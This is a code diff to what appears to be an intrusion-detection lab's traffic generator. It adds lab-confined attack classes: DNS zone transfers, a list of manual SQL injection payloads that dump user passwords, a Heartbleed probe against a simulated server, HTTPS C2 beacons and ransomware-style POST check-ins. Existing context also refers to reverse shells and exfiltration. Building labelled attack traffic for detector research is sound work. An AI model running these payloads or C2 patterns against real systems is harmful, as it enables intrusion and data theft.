@@ -10,13 +10,15 @@ Family names come from the app's vocabulary (``ids_desktop.core.schema.FAMILIES`
 tool / behaviour          family
 ========================= ==============================================================
 nmap (all scan types)     ``scan``
+dig/host zone transfer    ``scan`` (DNS reconnaissance: AXFR of the internal zones)
 hping3 floods, slowhttptest from one host            ``dos``
 hping3 floods from several hosts at once             ``ddos``
 hydra, medusa             ``brute_force``
-sqlmap, XSS probes        ``web_attack``
+sqlmap, XSS probes, manual SQL injection with curl   ``web_attack``
 command injection + reverse shell                    ``exploit``
+Heartbleed PoC against a *simulated* target          ``exploit`` (``heartbleed.py``)
 iodine DNS tunnel         ``backdoor`` (a covert remote-access channel)
-C2 beacon with jitter     ``botnet``
+C2 beacon with jitter (HTTP, HTTPS), POST check-ins  ``botnet``
 exfiltration HTTP / DNS   ``infiltration`` (data theft from an inside host; the vocabulary
                           has no "exfiltration", and CIC-IDS's "Infiltration" is the
                           compromised-insider stage this belongs to)
@@ -28,12 +30,18 @@ from __future__ import annotations
 import base64
 import json
 import random
+import string
+import subprocess
 import threading
 import time
 from dataclasses import asdict, dataclass, field
 from pathlib import Path
+from urllib.parse import quote_plus
 
 from .netns import Host, Lab, LabError, check_target
+from .servers import C2_TLS_NAMES
+
+SCRIPTS = Path(__file__).resolve().parent
 
 TCP, UDP, ICMP = 6, 17, 1
 #: Source ports that attack traffic from a *benign* (compromised) host uses; the lab sets
@@ -136,6 +144,10 @@ class Attack:
     def sh(self, ctx: Ctx, cmd: list[str], limit: float, **kw) -> int:
         return ctx.lab.run(self.attacker, cmd, limit, **kw).returncode
 
+    def local_port(self) -> list[str]:
+        """curl's source-port option when run from a benign user's host (hidden)."""
+        return ["--local-port", f"{ATTACK_SPORTS[0]}-{ATTACK_SPORTS[1]}"] if self.hidden else []
+
 
 # -- scans ---------------------------------------------------------------------------------
 class Nmap(Attack):
@@ -157,6 +169,43 @@ class Nmap(Attack):
         if kind == "connect":
             cmd.insert(1, "--unprivileged")
         return " ".join(cmd), self.sh(ctx, cmd, self.params.get("limit", 110))
+
+
+class ZoneTransfer(Attack):
+    """DNS reconnaissance: SOA lookups (UDP), then zone transfers (AXFR over TCP) with
+    ``dig axfr`` and ``host -l``, one TCP connection each, against the lab resolver's
+    authoritative zones (``servers.zone_args``; any host may transfer them) and, failing,
+    against ``lab.internal`` (not authoritative there: the transfer is refused)."""
+
+    family, tool = "scan", "dig-axfr"
+    ZONES = ["corp.lab.internal", "dmz.lab.internal"]
+
+    def rules(self):
+        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP, UDP],
+                     b_ports=[53])]
+
+    def execute(self, ctx):
+        rng = random.Random(ctx.rng.random())
+        dns = check_target(self.targets[0].ip)
+        zones = list(self.params.get("zones", self.ZONES))
+        tries = rng.sample(zones, rng.randint(1, len(zones)))
+        if rng.random() < 0.5:
+            tries.append("lab.internal")
+        rc, records, done = 0, 0, []
+        for zone in tries[: self.params.get("max_zones", 4)]:
+            if ctx.stop.is_set():
+                break
+            if rng.random() < 0.7:
+                self.sh(ctx, ["dig", f"@{dns}", "+time=2", "+tries=1", zone, "SOA"], 6)
+                time.sleep(rng.uniform(0.2, 2.0))
+            tool = ["host", "-l", "-W", "5", zone, dns] if rng.random() < 0.3 else \
+                ["dig", f"@{dns}", "+time=5", "+tries=1", zone, "AXFR"]
+            r = ctx.lab.run(self.attacker, tool, 15, stdout=subprocess.PIPE)
+            rc = r.returncode
+            records += (r.stdout or b"").count(b"\tIN\t") + (r.stdout or b"").count(b" has ")
+            done.append(f"{tool[0]} {zone}")
+            time.sleep(rng.uniform(0.5, 4.0))
+        return f"zone transfer @{dns}: {', '.join(done)} ({records} records)", rc
 
 
 # -- floods ---------------------------------------------------------------------------------
@@ -302,6 +351,70 @@ class XssProbe(Attack):
         return f"curl xss x{n} http://{t}:8080/search", rc
 
 
+#: Manual SQL injection, in the order a person tries them (MySQL-flavoured ones fail with a
+#: database error against the lab's SQLite: that too is what a manual attempt looks like).
+SQLI_STEPS = [
+    ["1'", "1\"", "1' -- ", "'"],
+    ["1' and 1=1 -- ", "1' and '1'='1", "1' or '1'='1", "1' or 1=1 -- ", "' or ''='"],
+    ["1' and 1=1 union select database(), user()#", "1' union select null, null -- ",
+     "1' union select 1, sqlite_version() -- ", "1' order by 3 -- ", "1' order by 2 -- "],
+    ["1' and 1=1 union select null, table_name from information_schema.tables#",
+     "1' union select name, sql from sqlite_master -- ",
+     "1' union select type, name from sqlite_master where type='table' -- "],
+    ["1' and 1=1 union select user, password from users#",
+     "1' union select name, password from users -- ",
+     "1' union select id, name || ':' || password from users -- ",
+     "-1' union select group_concat(name), group_concat(password) from users -- "],
+]
+FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0"
+
+
+class ManualSqli(Attack):
+    """SQL injection typed by hand (the CIC-IDS2017 "Web Attack - Sql Injection" shape):
+    GETs of ``/vulnerabilities/sqli/?id=<payload>&Submit=Submit`` with a browser's headers,
+    one request per TCP connection, a few seconds apart. Part of them come in runs of one
+    ``curl --rate`` call that keeps each connection open like a browser, until the app closes
+    it after its 5 s keep-alive timeout; the others are single curls that hang up at once."""
+
+    family, tool = "web_attack", "curl-sqli"
+
+    def rules(self):
+        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
+                     b_ports=[8080], a_ports=ATTACK_SPORTS if self.hidden else None)]
+
+    def execute(self, ctx):
+        rng = random.Random(ctx.rng.random())
+        t = check_target(self.targets[0].ip)
+        n = min(self.params.get("count", 10), 40)
+        payloads = [rng.choice(step) for step in SQLI_STEPS]
+        while len(payloads) < n:  # retries and variations of the later steps
+            payloads.append(rng.choice(rng.choice(SQLI_STEPS[1:])))
+        payloads = payloads[:n]
+        base = f"http://{t}:8080/vulnerabilities/sqli/"
+        sid = "".join(rng.choices(string.ascii_lowercase + string.digits, k=26))
+        hdr = ["-A", FIREFOX, "-H", "Accept: text/html,application/xhtml+xml,application/xml;"
+               "q=0.9,*/*;q=0.8", "-H", "Accept-Language: en-US,en;q=0.5", "-H",
+               f"Referer: {base}", "-H", f"Cookie: security=low; PHPSESSID={sid}",
+               "-H", "Connection: keep-alive", "--compressed"]
+        end = time.time() + self.params.get("seconds", 30 + 12 * n)
+        rc, i = 0, 0
+        while i < len(payloads) and not ctx.stop.is_set() and time.time() < end:
+            k = 1 if rng.random() < 0.4 else rng.randint(2, 4)
+            batch = payloads[i:i + k]
+            i += len(batch)
+            outs = sum((["-o", "/dev/null", f"{base}?id={quote_plus(p)}&Submit=Submit"]
+                        for p in batch), [])
+            if len(batch) > 1:  # > 5 s apart: the app closes each idle connection first
+                per_min = rng.choice([6, 7, 8, 10])
+                rc = self.sh(ctx, ["curl", "-s", "-m", "20", *self.local_port(), *hdr,
+                                   "--rate", f"{per_min}/m", *outs],
+                             len(batch) * 60 / per_min + 20)
+            else:
+                rc = self.sh(ctx, ["curl", "-s", "-m", "10", *self.local_port(), *hdr, *outs], 15)
+            time.sleep(rng.uniform(1.0, 8.0))
+        return f"curl GET {base}?id=<SQL injection> x{len(payloads)}", rc
+
+
 class CmdInjection(Attack):
     """Command injection in the lab app, then a reverse shell back to the attacker."""
 
@@ -331,6 +444,44 @@ class CmdInjection(Attack):
                            f"host={payload}", f"http://{t}:8080/lookup"], 30)
         ctx.lab.stop(listener, wait=10)
         return f"curl /lookup?host=<reverse shell to {me}:{port}>", rc
+
+
+class Heartbleed(Attack):
+    """Heartbleed (CVE-2014-0160) in the style of the public PoCs, against the lab's
+    **simulated** vulnerable TLS endpoint (``heartbleed.py serve`` on the target's port 443;
+    Debian's OpenSSL has no heartbeat, so no real vulnerable server exists in the lab).
+    Each connection: ClientHello, then either ``leak`` (1-4 heartbeat requests claiming
+    ``payload_length`` 0x4000 or 0xffff; ~16-64 kB of junk "memory" comes back for each) or
+    ``oversized`` (one 16 kB heartbeat record with no padding, which the server drops; the
+    client hangs up after 5-8 s, the shape of the Zeek ``heartbleed`` trace)."""
+
+    family, tool = "exploit", "heartbleed-sim"
+
+    def rules(self):
+        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
+                     b_ports=[self.params.get("port", 443)])]
+
+    def execute(self, ctx):
+        rng = random.Random(ctx.rng.random())
+        t, port = check_target(self.targets[0].ip), self.params.get("port", 443)
+        conns = min(self.params.get("conns", 3), 10)
+        rc, modes = 0, []
+        fixed = list(self.params.get("modes", []))  # e.g. ["leak", "oversized"]; else random
+        for i in range(conns):
+            if ctx.stop.is_set():
+                break
+            mode = fixed[i % len(fixed)] if fixed else rng.choices(["leak", "oversized"],
+                                                                   [0.6, 0.4])[0]
+            cmd = ["/usr/bin/python3", str(SCRIPTS / "heartbleed.py"), "probe", "--host", t,
+                   "--port", str(port), "--mode", mode, "--beats", str(rng.randint(1, 4)),
+                   "--length", rng.choice(["0x4000", "0x4000", "0xffff"]),
+                   "--pause", f"{rng.uniform(0.2, 2.0):.1f}",
+                   "--hold", f"{rng.uniform(5.0, 8.0):.1f}", "--tls", rng.choice(["1.1", "1.2"]),
+                   "--seed", str(rng.randrange(1 << 30))]
+            rc = self.sh(ctx, cmd, 40)
+            modes.append(mode)
+            time.sleep(rng.uniform(1.0, 6.0))
+        return f"heartbleed.py probe {t}:{port} ({', '.join(modes)}) [simulated target]", rc
 
 
 # -- covert channels, C2, exfiltration --------------------------------------------------------
@@ -398,6 +549,102 @@ class Beacon(Attack):
                               f"http://{c2}:8080/result?id={bot}"], 8)
             time.sleep(max(0.2, period * ctx.rng.uniform(1 - jitter, 1 + jitter)))
         return f"curl beacon x{n} every {period}s±{int(jitter * 100)}% to {c2}:8080", 0
+
+
+class TlsBeacon(Attack):
+    """C2 beacon over HTTPS: a new TLS connection (curl, HTTP/2 or HTTP/1.1) for every
+    check-in, every 2-4 s, a bounded count; SNI and Host are a C2 domain name pinned with
+    ``--resolve`` (no DNS lookup). The C2 host's nginx terminates TLS in front of the C2
+    server. Now and then a check-in POSTs a small result."""
+
+    family, tool = "botnet", "c2-beacon-tls"
+
+    def rules(self):
+        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
+                     b_ports=[443], a_ports=ATTACK_SPORTS if self.hidden else None)]
+
+    def execute(self, ctx):
+        rng = random.Random(ctx.rng.random())
+        c2 = check_target(self.targets[0].ip)
+        lo, hi = self.params.get("interval", (2.0, 4.0))
+        lo = max(0.5, lo)
+        n = min(self.params.get("count", 25), 300)
+        name = self.params.get("sni") or rng.choice(C2_TLS_NAMES)
+        path = rng.choice(["/api/v1/check", "/updates/check.json", "/cdn/ping", "/"])
+        http = rng.choice(["--http2", "--http2", "--http1.1"])
+        bot = rng.randrange(1 << 24)
+        ua = rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Go-http-client/1.1",
+                         "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"])
+        common = ["curl", "-s", "-k", "-o", "/dev/null", "-m", "6", http, *self.local_port(),
+                  "-A", ua, "--resolve", f"{name}:443:{c2}"]
+        end = time.time() + self.params.get("seconds", n * hi + 30)
+        sent = 0
+        for i in range(n):
+            if ctx.stop.is_set() or time.time() > end:
+                break
+            if rng.random() < 0.1:
+                size = rng.randint(100, 3000)
+                self.sh(ctx, ["sh", "-c", f"head -c {size} /dev/urandom | "
+                              + " ".join(f"'{c}'" for c in common)
+                              + f" --data-binary @- 'https://{name}/result?id={bot:x}'"], 10)
+            else:
+                self.sh(ctx, [*common, f"https://{name}{path}?id={bot:x}&seq={i}"], 10)
+            sent += 1
+            time.sleep(rng.uniform(lo, hi))
+        return f"curl -k --resolve {name}:443:{c2} https://{name}{path} x{sent} every " \
+               f"{lo:.0f}-{hi:.0f} s", 0
+
+
+class PostCheckin(Attack):
+    """Ransomware-style C2 check-ins (the CryptoWall shape): a few POSTs of opaque bodies
+    (hex of random bytes in a form field, or raw binary) to ``/<random>.php?<k>=<random>``
+    on the C2 server's port 8080, one connection each (``Connection: Close``), slowly paced;
+    the C2 answers after a pause with a chunked reply, now and then a large one."""
+
+    family, tool = "botnet", "c2-post-checkin"
+
+    def rules(self):
+        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
+                     b_ports=[8080], a_ports=ATTACK_SPORTS if self.hidden else None)]
+
+    def execute(self, ctx):
+        rng = random.Random(ctx.rng.random())
+        c2 = check_target(self.targets[0].ip)
+        n = min(self.params.get("count", 4), 20)
+        lo, hi = self.params.get("gap", (5.0, 30.0))
+        alnum = string.ascii_letters + string.digits
+        script = "".join(rng.choices(alnum, k=6)) + ".php"
+        domain = "".join(rng.choices(string.ascii_lowercase, k=rng.randint(8, 16))) + \
+            rng.choice([".com", ".net", ".org", ".info"])
+        ua = ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64; Trident/7.0; SLCC2; "
+              ".NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET CLR 3.0.30729; Media Center PC 6.0)")
+        d = ctx.work / f"checkin-{self.name}-{rng.randrange(1 << 30):x}"
+        d.mkdir(parents=True, exist_ok=True)
+        end = time.time() + self.params.get("seconds", n * (hi + 20))
+        rc, sent = 0, 0
+        for i in range(n):
+            if ctx.stop.is_set() or time.time() > end:
+                break
+            key = rng.choice(string.ascii_lowercase)
+            query = "".join(rng.choices(string.ascii_lowercase + string.digits,
+                                        k=rng.randint(10, 16)))
+            body = d / f"{i}.bin"
+            if rng.random() < 0.6:  # hex of "encrypted" bytes in a form field
+                body.write_bytes(f"{rng.choice(string.ascii_lowercase)}=".encode()
+                                 + rng.randbytes(rng.randint(50, 200)).hex().encode())
+                ctype = "application/x-www-form-urlencoded"
+            else:
+                body.write_bytes(rng.randbytes(rng.randint(80, 1200)))
+                ctype = "application/octet-stream"
+            rc = self.sh(ctx, ["curl", "-s", "-o", "/dev/null", "-m", "20", *self.local_port(),
+                               "-A", ua, "-H", "Accept: */*", "-H", f"Content-Type: {ctype}",
+                               "-H", "Connection: Close", "-H", f"Host: {domain}",
+                               "-H", "Cache-Control: no-cache", "-H", "Expect:",
+                               "--data-binary", f"@{body}",
+                               f"http://{c2}:8080/{script}?{key}={query}"], 25)
+            sent += 1
+            time.sleep(rng.uniform(lo, hi))
+        return f"curl POST http://{c2}:8080/{script}?<k>=<random> x{sent} (Host {domain})", rc
 
 
 class ExfilHttp(Attack):
